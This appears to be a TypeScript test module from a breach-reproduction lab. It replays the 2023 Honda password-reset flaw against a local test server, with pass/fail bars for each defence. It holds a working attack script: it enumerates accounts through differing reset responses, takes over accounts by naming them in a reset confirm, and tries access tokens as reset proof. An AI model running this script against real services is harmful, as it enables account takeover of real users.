import { setTimeout as sleep } from 'node:timers/promises';
import { AttackTally, type Attack, type AttackResult, type AttackTarget, type ScenarioResult } from './lib/attack-result';
import { answerViews } from './lib/answer-signature';
import { AttackTokens } from './lib/attack-tokens';
import { LabClient, jsonObject, type LabResponse } from './lib/lab-client';
import { runStandalone } from './lib/run-standalone';

export interface HondaResetOptions {
  /** Accounts the attacker tries to take over by naming them. @default 20 */
  readonly victims?: number;
}

const email = (id: number): string => `c${id}@breach-lab.test`;
const FIRST_VICTIM = 14_001;
const OWN_ACCOUNT = 14_500;
const PER_TARGET_ACCOUNT = 14_600;
const PROBED_PAIRS = 10;
const PER_TARGET_REQUESTS = 10;

/**
 * Honda 2023: the reset API told anyone which accounts existed and let anyone set a new password by
 * naming the account. The attacker probes reset requests, tries reset confirm by identifier and with an
 * access token, and checks that the legitimate flow (the mailed token) works exactly once.
 */
export function hondaReset(options: HondaResetOptions = {}): Attack {
  const victims = options.victims ?? 20;
  const attack: Omit<Attack, 'run'> = {
    name: 'honda-reset',
    incident: 'Honda 2023',
    title: `take over ${victims} accounts through password reset`,
    bar: 'no account taken over; reset requests identical for real and unknown addresses; an access token is refused; the mailed token works once; per-target budget holds',
    sourceAddress: '127.0.0.14',
  };

  async function run(target: AttackTarget): Promise<AttackResult> {
    const source = target.sourceAddress ?? attack.sourceAddress;
    const attacker = new LabClient(target.base, { localAddress: source, maxSockets: 1 });
    const owner = new LabClient(target.base, { localAddress: '127.0.0.24', maxSockets: 1 });
    const lab = new LabClient(target.base);
    const tokens = new AttackTokens();
    const tally = new AttackTally();
    const scenarios: ScenarioResult[] = [];
    const post = (client: LabClient, path: string, json: unknown, token?: string): Promise<LabResponse> =>
      client.send({ method: 'POST', path, json, ...(token !== undefined ? { token } : {}) });
    try {
      // 1. Which addresses have accounts?
      const probe = tally.scenario('reset request: real vs unknown address');
      let differing = 0;
      for (let k = 0; k < PROBED_PAIRS; k += 1) {
        const real = await post(attacker, '/api/password-reset', { email: email(13_500 + k) });
        const unknown = await post(attacker, '/api/password-reset', { email: email(30_000 + k) });
        probe.add(real, false);
        probe.add(unknown, false);
        if (answerViews(real).full !== answerViews(unknown).full) differing += 1;
      }
      scenarios.push(probe.result(`${differing} of ${PROBED_PAIRS} real/unknown pairs answered differently`, { meetsBar: differing === 0, breached: differing > PROBED_PAIRS / 2 }));

      // 2. Reset confirm by naming the account, then log in with the attacker's password.
      const takeover = tally.scenario('confirm by identifier {email, newPassword}');
      let takenOver = 0;
      for (let id = FIRST_VICTIM; id < FIRST_VICTIM + victims; id += 1) {
        const password = `taken-over-${id}!`;
        const confirm = await post(attacker, '/api/password-reset/confirm', { email: email(id), newPassword: password });
        takeover.add(confirm, false);
        const login = await post(attacker, '/api/login', { email: email(id), password });
        const owned = login.status === 200 && typeof jsonObject(login)?.accessToken === 'string';
        if (owned) takenOver += 1;
        takeover.add(login, owned);
      }
      scenarios.push(takeover.result(`${takenOver} of ${victims} accounts taken over`, { meetsBar: takenOver === 0, breached: takenOver === victims }));

      // 3. An access token is not a reset proof, in the body or as a bearer.
      const access = tally.scenario('confirm with an access token');
      const ownAccess = tokens.customer(OWN_ACCOUNT);
      const inBody = await post(attacker, '/api/password-reset/confirm', { token: ownAccess, newPassword: 'access-token-as-proof' });
      const asBearer = await post(attacker, '/api/password-reset/confirm', { email: email(FIRST_VICTIM + victims), newPassword: 'bearer-as-proof!' }, ownAccess);
      access.add(inBody, inBody.status === 200);
      access.add(asBearer, asBearer.status === 200);
      scenarios.push(
        access.result(`in the body: ${inBody.status}; as bearer for another account: ${asBearer.status}`, {
          meetsBar: inBody.status !== 200 && asBearer.status !== 200,
          breached: inBody.status === 200 || asBearer.status === 200,
        }),
      );

      // 4. The owner's own flow, from the owner's address: the mailed token works, once.
      const legit = tally.scenario(`mailed token, twice (owner of ${email(OWN_ACCOUNT)})`);
      legit.add(await post(owner, '/api/password-reset', { email: email(OWN_ACCOUNT) }), false);
      const token = await mailedToken(lab, email(OWN_ACCOUNT));
      const first = await post(owner, '/api/password-reset/confirm', { token: token ?? 'no-mail-arrived', newPassword: 'owner-chose-this' });
      const login = await post(owner, '/api/login', { email: email(OWN_ACCOUNT), password: 'owner-chose-this' });
      const second = await post(owner, '/api/password-reset/confirm', { token: token ?? 'no-mail-arrived', newPassword: 'replayed-token!' });
      for (const res of [first, login, second]) legit.add(res, false);
      scenarios.push(
        legit.result(`mail ${token === undefined ? 'missing' : 'received'}; first use ${first.status}, login ${login.status}, second use ${second.status}`, {
          meetsBar: token !== undefined && first.status === 200 && login.status === 200 && second.status !== 200,
          breached: false,
        }),
      );

      // 5. Many reset requests for one address, from several addresses: one budget per target.
      const perTarget = tally.scenario(`${PER_TARGET_REQUESTS} reset requests for one address, from 5 clients`);
      const clients = [31, 32, 33, 34, 35].map((n) => new LabClient(target.base, { localAddress: `127.0.0.${n}`, maxSockets: 1 }));
      for (let k = 0; k < PER_TARGET_REQUESTS; k += 1) {
        perTarget.add(await post(clients[k % clients.length] as LabClient, '/api/password-reset', { email: email(PER_TARGET_ACCOUNT) }), false);
      }
      clients.forEach((c) => c.close());
      await sleep(300);
      const mails = await outboxCount(lab, email(PER_TARGET_ACCOUNT));
      scenarios.push(
        perTarget.result(`${mails} messages sent to the address, ${perTarget.count(429)} x 429`, {
          meetsBar: perTarget.count(429) > 0 && mails < PER_TARGET_REQUESTS,
          breached: mails === PER_TARGET_REQUESTS,
        }),
      );
    } finally {
      [attacker, owner, lab].forEach((c) => c.close());
    }
    return tally.finish(attack, target, scenarios, {
      summary: `${tally.recordsObtained} accounts taken over`,
      breachReproduced: scenarios[1]?.breached === true,
    });
  }

  return { ...attack, run };
}

/** The reset token mailed to an address (the lab's outbox), waiting briefly for deferred delivery. */
async function mailedToken(lab: LabClient, to: string): Promise<string | undefined> {
  for (let attempt = 0; attempt < 30; attempt += 1) {
    const messages = await lab.getJson(`/_lab/outbox?to=${encodeURIComponent(to)}`);
    const last: unknown = Array.isArray(messages) ? messages[messages.length - 1] : undefined;
    const token = typeof last === 'object' && last !== null ? (last as { token?: unknown }).token : undefined;
    if (typeof token === 'string') return token;
    await sleep(100);
  }
  return undefined;
}

async function outboxCount(lab: LabClient, to: string): Promise<number> {
  const messages = await lab.getJson(`/_lab/outbox?to=${encodeURIComponent(to)}`);
  return Array.isArray(messages) ? messages.length : 0;
}

if (require.main === module) void runStandalone(hondaReset());
